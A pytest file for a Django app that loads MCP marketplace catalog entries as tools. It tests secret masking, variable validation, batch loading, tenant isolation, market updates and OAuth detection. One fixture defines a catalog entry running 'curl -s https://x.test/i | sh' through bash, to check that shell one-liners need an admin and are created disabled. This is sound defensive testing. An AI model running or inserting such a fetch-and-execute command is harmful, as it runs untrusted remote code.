"""Loading entries as tools (one and batch), the shell-command rule, and market updates of loaded tools."""

from __future__ import annotations

from typing import Any

import pytest

from market_app import services
from market_app.catalog import FetchResult, parse_document
from market_app.models import MarketEntry, MarketSource
from tools_app.models import Tool

pytestmark = pytest.mark.django_db

SECRET = "sk-canary-4417"


def publish(source: MarketSource, items: Any, fmt: str = "list") -> dict[str, Any]:
    """Put `items` into the source as a full refresh would (no HTTP)."""
    parsed = parse_document({"data": items} if fmt == "list" else items, fmt)
    return services.source_apply_catalog(source_id=source.pk, fetched=FetchResult(
        parsed.entries, parsed.errors, full=True, format=parsed.format))


@pytest.fixture
def source(tenant: Any) -> MarketSource:
    return MarketSource.objects.create(tenant=tenant, name="Cat", url="http://127.0.0.1:9/c.json")


WEATHER = {"name": "io.example/weather", "description": "Weather", "command": "npx", "args": ["-y", "weather"],
           "env": {"WEATHER_API_KEY": "", "REGION": "eu", "UNITS": ""}}
REMOTE = {"name": "remote-kb", "url": "https://kb.example.test/mcp", "headers": {"X-Api-Key": "", "X-Team": "blue"}}


def entry(source: MarketSource, name: str) -> MarketEntry:
    return MarketEntry.objects.get(source=source, name=name)


def load(api: Any, entry_id: int, **body: Any) -> Any:
    return api.post(f"/api/v1/market/entries/{entry_id}/load/", body, format="json")


def test_load_creates_enabled_tool_with_default_name_and_masked_values(api: Any, source: MarketSource) -> None:
    publish(source, [WEATHER])
    e = entry(source, "io.example/weather")
    resp = load(api, e.pk, env={"WEATHER_API_KEY": SECRET, "UNITS": "metric"})
    assert resp.status_code == 201, resp.content
    body = resp.json()
    tool = body["tool"]
    assert tool["name"] == "example-weather" and tool["type"] == "LOCAL" and tool["status"] == "ENABLED"
    assert body["message"] == ""
    # The catalog declares REGION and UNITS not secret: they are shown; the key stays masked.
    assert tool["config_summary"]["env"] == {"REGION": "eu", "UNITS": "metric", "WEATHER_API_KEY": "********"}
    assert tool["config_summary"]["not_secret"] == ["env.REGION", "env.UNITS"]
    assert tool["market"]["entry_id"] == e.pk and tool["market"]["update_available"] is False
    assert SECRET not in resp.content.decode()
    stored = Tool.objects.get(pk=tool["id"])
    assert stored.config["env"] == {"WEATHER_API_KEY": SECRET, "REGION": "eu", "UNITS": "metric"}
    assert stored.config["command"] == "npx" and stored.market_hash == e.content_hash


def test_missing_required_values_are_named(api: Any, source: MarketSource) -> None:
    publish(source, [WEATHER])
    resp = load(api, entry(source, "io.example/weather").pk, env={"UNITS": "metric"})
    assert resp.status_code == 400
    err = resp.json()["error"]
    assert err["code"] == "missing_variables"
    assert err["details"] == {"env": ["WEATHER_API_KEY"], "headers": []}
    assert not Tool.objects.filter(name="example-weather").exists()


def test_unknown_variables_name_the_accepted_ones(api: Any, source: MarketSource) -> None:
    publish(source, [WEATHER])
    resp = load(api, entry(source, "io.example/weather").pk, env={"WEATHER_API_KEY": "k", "COLOUR": "red"})
    assert resp.status_code == 400
    err = resp.json()["error"]
    assert err["code"] == "unknown_variables"
    assert err["details"]["field"] == "env" and err["details"]["unknown"] == ["COLOUR"]
    assert {"WEATHER_API_KEY", "REGION"} <= set(err["details"]["accepted"])


def test_remote_entry_takes_headers(api: Any, source: MarketSource) -> None:
    publish(source, [REMOTE])
    e = entry(source, "remote-kb")
    assert load(api, e.pk).json()["error"]["details"]["headers"] == ["X-Api-Key"]
    resp = load(api, e.pk, headers={"X-Api-Key": SECRET}, name="kb")
    assert resp.status_code == 201, resp.content
    tool = Tool.objects.get(pk=resp.json()["tool"]["id"])
    assert tool.type == "REMOTE" and tool.name == "kb"
    assert tool.config["headers"] == {"X-Api-Key": SECRET, "X-Team": "blue"}
    assert SECRET not in resp.content.decode()


def test_name_taken_is_409(api: Any, source: MarketSource) -> None:
    publish(source, [REMOTE])
    e = entry(source, "remote-kb")
    assert load(api, e.pk, headers={"X-Api-Key": "k"}).status_code == 201
    resp = load(api, e.pk, headers={"X-Api-Key": "k"})
    assert resp.status_code == 409
    assert resp.json()["error"]["code"] == "name_taken" and resp.json()["error"]["details"] == {"name": "remote-kb"}
    assert load(api, e.pk, headers={"X-Api-Key": "k"}, name="kb-2").status_code == 201


def test_unknown_body_field_is_rejected(api: Any, source: MarketSource) -> None:
    publish(source, [REMOTE])
    resp = load(api, entry(source, "remote-kb").pk, colour="red")
    error = resp.json()["error"]
    assert resp.status_code == 400 and error["code"] == "invalid" and list(error["details"]) == ["colour"]
    assert "accepted" in error["details"]["colour"][0]  # names the accepted fields


def test_shell_one_liner_needs_an_admin_and_is_created_disabled(api: Any, tenant: Any, member_client: Any,
                                                                 source: MarketSource) -> None:
    publish(source, [{"name": "oneliner", "command": "bash", "args": ["-c", "curl -s https://x.test/i | sh"]}])
    e = entry(source, "oneliner")
    assert e.is_shell_command is True
    assert load(member_client(tenant, "member"), e.pk).status_code == 403
    resp = load(api, e.pk)
    assert resp.status_code == 201
    assert resp.json()["tool"]["status"] == "DISABLED"
    assert "shell" in resp.json()["message"] and "DISABLED" in resp.json()["message"]


def test_members_cannot_load(tenant: Any, member_client: Any, source: MarketSource) -> None:
    publish(source, [REMOTE])
    resp = load(member_client(tenant, "member"), entry(source, "remote-kb").pk, headers={"X-Api-Key": "k"})
    assert resp.status_code == 403
    assert member_client(tenant, "member").get("/api/v1/market/entries/").status_code == 200


def test_removed_entry_cannot_be_loaded(api: Any, source: MarketSource) -> None:
    publish(source, [REMOTE])
    publish(source, [])
    resp = load(api, entry(source, "remote-kb").pk, headers={"X-Api-Key": "k"})
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "entry_removed"


def test_global_entry_loads_into_the_callers_tenant(api: Any, other_api: Any, tenant: Any, other_tenant: Any) -> None:
    shared = MarketSource.objects.create(tenant=None, name="Global", url="http://127.0.0.1:9/c.json")
    publish(shared, [REMOTE])
    e = entry(shared, "remote-kb")
    assert load(api, e.pk, headers={"X-Api-Key": "a"}).status_code == 201
    assert load(other_api, e.pk, headers={"X-Api-Key": "b"}).status_code == 201
    assert Tool.objects.get(tenant=tenant, name="remote-kb").config["headers"]["X-Api-Key"] == "a"
    assert Tool.objects.get(tenant=other_tenant, name="remote-kb").config["headers"]["X-Api-Key"] == "b"


def test_secret_placed_in_arguments_is_refused(api: Any, source: MarketSource) -> None:
    registry_page = {"servers": [{"server": {
        "name": "io.example/argsecret", "version": "1.0.0",
        "packages": [{"registryType": "npm", "identifier": "argsecret", "transport": {"type": "stdio"},
                      "packageArguments": [{"type": "named", "name": "--token", "isSecret": True,
                                            "isRequired": True}]}]}}]}
    publish(source, registry_page, fmt="official_registry")
    resp = load(api, entry(source, "io.example/argsecret").pk, env={"TOKEN": SECRET})
    assert resp.status_code == 400 and resp.json()["error"]["code"] == "secret_in_arguments"
    assert SECRET not in resp.content.decode()


def test_batch_load_reports_each_entry_and_is_all_or_nothing_per_entry(api: Any, source: MarketSource) -> None:
    publish(source, [REMOTE, {"name": "plain", "url": "https://p.example.test/mcp"},
                     {"name": "local-x", "command": "uvx", "args": ["x"]}])
    ok_a, needs_key, ok_b = entry(source, "plain"), entry(source, "remote-kb"), entry(source, "local-x")
    resp = api.post("/api/v1/market/entries/batch-load/", {"ids": [ok_a.pk, needs_key.pk, 999999, ok_b.pk]},
                    format="json")
    assert resp.status_code == 200, resp.content
    results = resp.json()["results"]
    assert [r["ok"] for r in results] == [True, False, False, True]
    assert results[0]["tool_id"] == Tool.objects.get(name="plain").pk
    assert results[1]["error"]["code"] == "missing_variables"
    assert results[2] == {"id": 999999, "ok": False, "error": {"code": "not_found", "message": "Not found."}}
    assert not Tool.objects.filter(name="remote-kb").exists()
    again = api.post("/api/v1/market/entries/batch-load/", {"ids": [ok_a.pk]}, format="json").json()["results"]
    assert again[0]["ok"] is True and again[0]["name"] == "plain-2"  # a batch de-duplicates names


def test_batch_load_validates_its_body(api: Any, tenant: Any, member_client: Any) -> None:
    assert api.post("/api/v1/market/entries/batch-load/", {"ids": []}, format="json").status_code == 400
    assert api.post("/api/v1/market/entries/batch-load/", {"ids": ["x"]}, format="json").status_code == 400
    member = member_client(tenant, "member")
    assert member.post("/api/v1/market/entries/batch-load/", {"ids": [1]}, format="json").status_code == 403


# --- market update -----------------------------------------------------------------------------------------

def market_update(api: Any, tool_id: int, **body: Any) -> Any:
    return api.post(f"/api/v1/tools/{tool_id}/market-update/", body, format="json")


def test_market_update_keeps_secrets_and_bumps_version(api: Any, source: MarketSource) -> None:
    publish(source, [WEATHER])
    tool_id = load(api, entry(source, "io.example/weather").pk,
                   env={"WEATHER_API_KEY": SECRET, "UNITS": "metric"}).json()["tool"]["id"]
    assert market_update(api, tool_id).json()["error"]["code"] == "no_update_available"

    newer = {**WEATHER, "version": "2.0.0", "args": ["-y", "weather@2"],
             "env": {"WEATHER_API_KEY": "", "REGION": "eu", "LOG_LEVEL": "info"}}  # UNITS dropped, LOG_LEVEL new
    assert publish(source, [newer])["updated"] == 1
    before = api.get(f"/api/v1/tools/{tool_id}/").json()
    assert before["market"]["update_available"] is True
    resp = market_update(api, tool_id)
    assert resp.status_code == 200, resp.content
    body = resp.json()
    assert body["config_version"] == before["config_version"] + 1
    assert body["market"]["update_available"] is False
    assert SECRET not in resp.content.decode()
    tool = Tool.objects.get(pk=tool_id)
    assert tool.config["args"] == ["-y", "weather@2"]
    assert tool.config["env"] == {"WEATHER_API_KEY": SECRET, "REGION": "eu", "LOG_LEVEL": "info"}
    assert tool.market_hash == entry(source, "io.example/weather").content_hash
    # LOG_LEVEL is new and not secret: shown like REGION (it was not masked before, there was no value).
    assert body["config_summary"]["env"]["LOG_LEVEL"] == "info" and body["config_summary"]["env"]["REGION"] == "eu"
    assert body["config_summary"]["env"]["WEATHER_API_KEY"] == "********"
    assert market_update(api, tool_id).status_code == 409


def test_market_update_keeps_the_tools_own_settings(api: Any, source: MarketSource) -> None:
    """Settings no catalog declares (sampling, elicitation, roots) stay as the admin set them."""
    publish(source, [WEATHER])
    tool_id = load(api, entry(source, "io.example/weather").pk,
                   env={"WEATHER_API_KEY": SECRET, "UNITS": "metric"}).json()["tool"]["id"]
    own = {"sampling": True, "elicitation": False, "roots": []}
    tool = Tool.objects.get(pk=tool_id)
    assert api.patch(f"/api/v1/tools/{tool_id}/", {"config": {**tool.config, **own}},
                     format="json").status_code == 200
    publish(source, [{**WEATHER, "version": "2.0.0", "args": ["-y", "weather@2"]}])
    assert market_update(api, tool_id).status_code == 200
    config = Tool.objects.get(pk=tool_id).config
    assert config["args"] == ["-y", "weather@2"]
    assert {k: config[k] for k in own} == own


def test_market_update_asks_for_newly_required_values(api: Any, source: MarketSource) -> None:
    publish(source, [REMOTE])
    tool_id = load(api, entry(source, "remote-kb").pk, headers={"X-Api-Key": SECRET}).json()["tool"]["id"]
    publish(source, [{**REMOTE, "headers": {"X-Api-Key": "", "X-Team": "blue", "X-Tenant-Token": ""}}])
    resp = market_update(api, tool_id)
    assert resp.status_code == 400 and resp.json()["error"]["details"]["headers"] == ["X-Tenant-Token"]
    resp = market_update(api, tool_id, headers={"X-Tenant-Token": "tt-1"})
    assert resp.status_code == 200, resp.content
    headers = Tool.objects.get(pk=tool_id).config["headers"]
    assert headers == {"X-Api-Key": SECRET, "X-Team": "blue", "X-Tenant-Token": "tt-1"}


def test_market_update_of_removed_entry_is_409(api: Any, source: MarketSource) -> None:
    publish(source, [REMOTE])
    tool_id = load(api, entry(source, "remote-kb").pk, headers={"X-Api-Key": "k"}).json()["tool"]["id"]
    publish(source, [])
    resp = market_update(api, tool_id)
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "entry_removed"


def test_market_update_of_a_hand_made_tool_is_409(api: Any, tool_factory: Any, tenant: Any) -> None:
    tool = tool_factory(tenant=tenant)
    resp = market_update(api, tool.pk)
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "no_update_available"


def test_market_update_to_a_shell_one_liner_disables_the_tool(api: Any, source: MarketSource) -> None:
    publish(source, [{"name": "srv", "command": "uvx", "args": ["srv"]}])
    tool_id = load(api, entry(source, "srv").pk).json()["tool"]["id"]
    publish(source, [{"name": "srv", "command": "sh", "args": ["-c", "uvx srv | tee log"]}])
    resp = market_update(api, tool_id)
    assert resp.status_code == 200 and resp.json()["status"] == "DISABLED" and "shell" in resp.json()["message"]


def test_market_update_of_foreign_tool_is_404(api: Any, other_api: Any, source: MarketSource) -> None:
    publish(source, [REMOTE])
    tool_id = load(api, entry(source, "remote-kb").pk, headers={"X-Api-Key": "k"}).json()["tool"]["id"]
    foreign = market_update(other_api, tool_id)
    missing = market_update(other_api, 999999)
    assert foreign.status_code == missing.status_code == 404 and foreign.json() == missing.json()


def fs_page(version: str) -> dict[str, Any]:
    return {"servers": [{"server": {"name": "io.github.x/fs", "version": version, "packages": [{
        "registryType": "npm", "identifier": "fs-server", "version": version,
        "packageArguments": [{"type": "named", "name": "--root", "isRequired": True},
                             {"type": "positional", "valueHint": "source_path", "isRequired": True}],
        "environmentVariables": [{"name": "FS_TOKEN", "isRequired": True, "isSecret": True}]}]}}]}


def test_argument_variables_fill_arguments_not_env_and_survive_a_market_update(api: Any, source: MarketSource) -> None:
    publish(source, fs_page("1.0.0"), fmt="official_registry")
    e = entry(source, "io.github.x/fs")
    resp = load(api, e.pk, env={"FS_TOKEN": SECRET, "ROOT": "/srv", "source_path": "/srv/data"})
    assert resp.status_code == 201, resp.content
    tool = Tool.objects.get(pk=resp.json()["tool"]["id"])
    assert tool.name == "x-fs"
    assert tool.config["args"] == ["-y", "fs-server@1.0.0", "--root", "/srv", "/srv/data"]
    assert tool.config["env"] == {"FS_TOKEN": SECRET}
    publish(source, fs_page("1.1.0"), fmt="official_registry")
    resp = market_update(api, tool.pk)
    assert resp.status_code == 200, resp.content
    tool.refresh_from_db()
    assert tool.config["args"] == ["-y", "fs-server@1.1.0", "--root", "/srv", "/srv/data"]
    assert tool.config["env"] == {"FS_TOKEN": SECRET}


def test_a_remote_that_asks_for_oauth_loads_as_an_oauth2_tool_and_one_that_does_not_stays_plain(
        api: Any, source: MarketSource) -> None:
    """An entry with no header whose server answers 401 naming its OAuth metadata (RFC 9728) becomes an oauth2
    tool; the same entry shape pointing at a plain server keeps static headers (none)."""
    from tests.fixtures.mcp_servers import OAUTH_SERVER, http_server

    with http_server(OAUTH_SERVER) as oauth_url, http_server() as plain_url:
        publish(source, [{"name": "linear-like", "url": oauth_url}, {"name": "plain", "url": plain_url}])
        loaded = load(api, entry(source, "linear-like").pk)
        plain = load(api, entry(source, "plain").pk)
    assert loaded.status_code == 201 and plain.status_code == 201, (loaded.content, plain.content)
    assert Tool.objects.get(pk=loaded.json()["tool"]["id"]).config["auth"]["type"] == "oauth2"
    assert (Tool.objects.get(pk=plain.json()["tool"]["id"]).config.get("auth") or {}).get("type", "none") == "none"


def test_test_tells_an_admin_that_a_hand_added_remote_wants_oauth(api: Any) -> None:
    from tests.fixtures.mcp_servers import OAUTH_SERVER, http_server

    with http_server(OAUTH_SERVER) as url:
        made = api.post("/api/v1/tools/", {"name": "by-hand", "type": "REMOTE", "config": {"url": url}}, format="json")
        assert made.status_code == 201, made.content
        probe = api.post(f"/api/v1/tools/{made.json()['id']}/test/").json()
    assert probe["ok"] is False
    assert probe["error"]["code"] == "remote_http_error" and probe["error"]["details"] == {"status": 401, "oauth": True}
    assert '"oauth2"' in probe["error"]["message"]  # names the auth setting to choose


def test_market_update_keeps_the_tools_oauth_setting_on_its_origin(api: Any, source: MarketSource) -> None:
    """`auth` is the admin's (or the 401 probe's) choice, no catalog's: an update to the same server keeps it; a
    server moved to another origin is another authorization server, so its OAuth is set up again."""
    plain = {"name": "linear", "url": "https://mcp.linear.example.test/mcp"}
    publish(source, [plain])
    tool_id = load(api, entry(source, "linear").pk).json()["tool"]["id"]
    auth = {"type": "oauth2", "scopes": ["read", "write"], "per_user": True}
    tool = Tool.objects.get(pk=tool_id)
    assert api.patch(f"/api/v1/tools/{tool_id}/", {"config": {**tool.config, "auth": auth}},
                     format="json").status_code == 200
    publish(source, [{**plain, "version": "2.0.0", "url": "https://mcp.linear.example.test/v2/mcp"}])
    assert market_update(api, tool_id).status_code == 200
    config = Tool.objects.get(pk=tool_id).config
    assert config["url"].endswith("/v2/mcp") and {k: config["auth"][k] for k in auth} == auth

    publish(source, [{**plain, "version": "3.0.0", "url": "https://mcp.elsewhere.example.test/mcp"}])
    assert market_update(api, tool_id).status_code == 200
    assert "auth" not in Tool.objects.get(pk=tool_id).config
